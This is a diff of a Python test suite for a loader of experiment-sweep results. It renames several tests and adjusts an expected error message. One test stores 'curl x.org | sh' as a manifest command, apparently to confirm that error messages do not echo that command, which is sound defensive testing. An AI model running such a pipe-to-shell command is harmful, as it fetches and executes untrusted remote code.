@@ -23,7 +23,7 @@ def edit_manifest(folder, **changes):
     manifest.write_manifest(folder, manifest.read_manifest(folder) | changes)
 
 
-def test_axis_values_of_cells(results):
+def test_cells_have_their_axis_values(results):
     run = results["failed"]
     assert run.axes == ["data.kind", "model.dim", "phases.embed.step_size"]
     joined = run.with_axes(run.records)
@@ -52,7 +52,7 @@ def test_values_after_failure_are_nan(folder):
     np.testing.assert_array_equal(records.loc[kept, "value"], raw.loc[kept, "value"])
 
 
-def test_missing_folder_and_folder_of_other_program(tmp_path):
+def test_missing_and_foreign_folders_are_rejected(tmp_path):
     with pytest.raises(InputError, match="no such folder"):
         load(tmp_path / "none")
     with pytest.raises(InputError, match=r"no manifest\.json"):
@@ -62,7 +62,7 @@ def test_missing_folder_and_folder_of_other_program(tmp_path):
 def test_unfinished_run_error_names_folder_but_no_manifest_command(folder):
     edit_manifest(folder, status="running", command="curl x.org | sh")
     with pytest.raises(
-        InputError, match=rf"it has no measurements yet; run the same sweep again into {folder}$"
+        InputError, match=rf"has no measurements yet; run the same sweep again into {folder}$"
     ):
         load(folder)
     edit_manifest(folder, status="finished", command=["curl", "x.org"])
@@ -91,14 +91,14 @@ def test_missing_column_is_an_error(folder, rewrite):
 
 
 @pytest.mark.parametrize("text", ["{", "[]", "{}", '{"name": "x"}'])
-def test_damaged_manifest(folder, text):
+def test_damaged_manifest_is_rejected(folder, text):
     (folder / "manifest.json").write_text(text)
     with pytest.raises(InputError, match=r"manifest\.json: ") as caught:
         load(folder)
     assert "\n" not in str(caught.value)
 
 
-def test_unknown_cell(results):
+def test_unknown_cell_is_rejected(results):
     with pytest.raises(InputError, match=r"cell 9: .* has only cells 0 to 3"):
         results["dims"].settings(9)
     chosen = results["dims"].choose(where={"model.dim": 256})
